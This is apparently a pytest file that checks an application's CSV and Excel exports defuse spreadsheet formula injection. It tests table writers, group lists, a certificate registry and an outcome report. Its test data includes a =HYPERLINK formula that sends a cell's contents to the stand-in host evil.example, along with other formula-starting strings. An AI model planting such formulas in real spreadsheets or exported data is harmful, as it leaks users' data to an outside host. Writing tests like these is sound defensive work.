"""No export hands Excel something to execute: formula-like text is quoted in CSV and plain text in XLSX.

Every writer is covered: the table writer itself, the list exports (groups), the
certificate registry book and the outcome report.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from cluster_desktop.db import Database
from cluster_desktop.models import ProgrammeKind
from cluster_desktop.services.certificate_files import issue_to_folder, write_registry_report
from cluster_desktop.services.certificates import find_by_number, revoke
from cluster_desktop.services.list_export import export_list, groups_list
from cluster_desktop.services.programmes import GroupInput, ProgrammeInput, create_group, create_programme
from cluster_desktop.spreadsheets.writer import csv_text, write_table
from tests.core.test_certificates import ISSUED, make_cluster
from tests.narrowing import present

LINK = '=HYPERLINK("http://evil.example/?"&B2,"Open")'
HOSTILE = [LINK, "+7 701 000 00 00", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def csv_rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def no_formulas(path: Path) -> None:
    """No cell of any sheet is stored as a formula (the XML has no <f> element)."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_field_gets_a_quote_before_a_formula_start(text: str) -> None:
    assert csv_text(text) == "'" + text


@pytest.mark.parametrize("value", ["Сейітова Әсем", "ГД-25", "a=b", "", "'quoted", "№ 5 «Қазақ» — ₸"])
def test_ordinary_text_is_left_alone(value: str) -> None:
    assert csv_text(value) == value


def test_numbers_and_dates_are_not_text() -> None:
    assert (csv_text(-5), csv_text(-2.5), csv_text(Decimal("-1.50")), csv_text(date(2025, 9, 1)), csv_text(None)) == (
        "-5",
        "-2.5",
        "-1.50",
        "01.09.2025",
        "",
    )


def test_table_writer_csv(tmp_path: Path) -> None:
    path = write_table(tmp_path / "t.csv", ["=Header", "Number"], [[text, -3] for text in HOSTILE])
    rows = csv_rows(path)
    assert rows[0] == ["'=Header", "Number"]
    assert rows[1:] == [["'" + text, "-3"] for text in HOSTILE]


def test_table_writer_xlsx_keeps_text_as_text_and_numbers_as_numbers(tmp_path: Path) -> None:
    path = write_table(tmp_path / "t.xlsx", ["=Header", "Number"], [[text, -3, Decimal("-1.5")] for text in HOSTILE])
    no_formulas(path)
    sheet = present(load_workbook(path).active)
    assert sheet["A1"].value == "=Header" and sheet["A1"].data_type == "s"
    for row, text in enumerate(HOSTILE, start=2):
        cell = sheet.cell(row, 1)
        # XML reads a carriage return back as a line feed
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text.replace("\r", "\n"), "s", True)
        assert sheet.cell(row, 2).value == -3 and sheet.cell(row, 2).data_type == "n"
        assert sheet.cell(row, 3).value == -1.5 and sheet.cell(row, 3).data_type == "n"


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_group_list_export(database: Database, tmp_path: Path, suffix: str) -> None:
    with database.session() as session:
        programme = create_programme(session, ProgrammeInput(ProgrammeKind.PROFILE_COURSE, "=1+2", "Горное дело"))
        create_group(session, GroupInput(programme.id, "-ГД+25", "kk", date(2025, 9, 1)))
        path = tmp_path / f"groups{suffix}"
        export_list(session, groups_list("kk"), path)
    if suffix == ".csv":
        assert csv_rows(path)[1][:2] == ["'-ГД+25", "'=1+2"]
    else:
        no_formulas(path)
        sheet = present(load_workbook(path).active)
        assert (sheet["A2"].value, sheet["B2"].value) == ("-ГД+25", "=1+2")


def test_registry_book_with_a_hostile_revocation_reason(database: Database, tmp_path: Path) -> None:
    cluster = make_cluster(database, learners=1)
    issue_to_folder(database, cluster.completed, "kk", tmp_path / "out", ISSUED)
    with database.session() as session:
        certificate = present(find_by_number(session, "KP-2026-000001"))
        revoke(session, certificate.id, LINK, on=ISSUED, today=ISSUED)
        xlsx = write_registry_report(session, tmp_path / "book.xlsx", "kk")
        book_csv = write_registry_report(session, tmp_path / "book.csv", "ru")
    no_formulas(xlsx)
    values = list(present(load_workbook(xlsx).active).iter_rows(values_only=True))[1]
    assert LINK in values
    assert "'" + LINK in csv_rows(book_csv)[1]


def test_outcome_report_xlsx_with_a_hostile_employer_name(database: Database, tmp_path: Path) -> None:
    from cluster_desktop.ids import make_bin
    from cluster_desktop.models import OrganisationKind
    from cluster_desktop.services import demand as D
    from cluster_desktop.services.organisations import OrganisationInput, create_organisation
    from cluster_desktop.services.outcome_report import write_outcome_report

    with database.session() as session:
        employer = create_organisation(session, OrganisationInput(OrganisationKind.EMPLOYER, LINK, LINK, make_bin(1995, 12, 4, 1))).id
        D.create_demand(session, D.DemandInput(employer, "07240100", "Горный мастер", 2026, 3))
        path = write_outcome_report(session, tmp_path / "report.xlsx", 2025, None, "ru", today=date(2026, 3, 10))
    no_formulas(path)
    book = load_workbook(path)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    hostile = [c for c in cells if isinstance(c.value, str) and c.value.startswith("=")]
    assert LINK in {c.value for c in hostile}
    assert all(c.data_type == "s" for c in hostile)
    negative = [c for c in cells if isinstance(c.value, (int, float)) and c.value < 0]
    assert negative and all(c.data_type == "n" for c in negative)  # the shortfall of 3 people stays a number


def test_a_quoted_csv_reads_back_as_typed(tmp_path: Path) -> None:
    """A list exported to CSV and imported again: the quote that kept Excel off the formula is not part of the value."""
    from cluster_desktop.spreadsheets.reader import read_table

    path = write_table(tmp_path / "t.csv", ["Name", "Phone"], [[LINK, "+7 701 000 00 00"], ["'quoted", "-"], ["-ГД+25", "@home"]])
    table = read_table(path)
    assert [values for _n, values in table.rows] == [[LINK, "+7 701 000 00 00"], ["'quoted", "-"], ["-ГД+25", "@home"]]
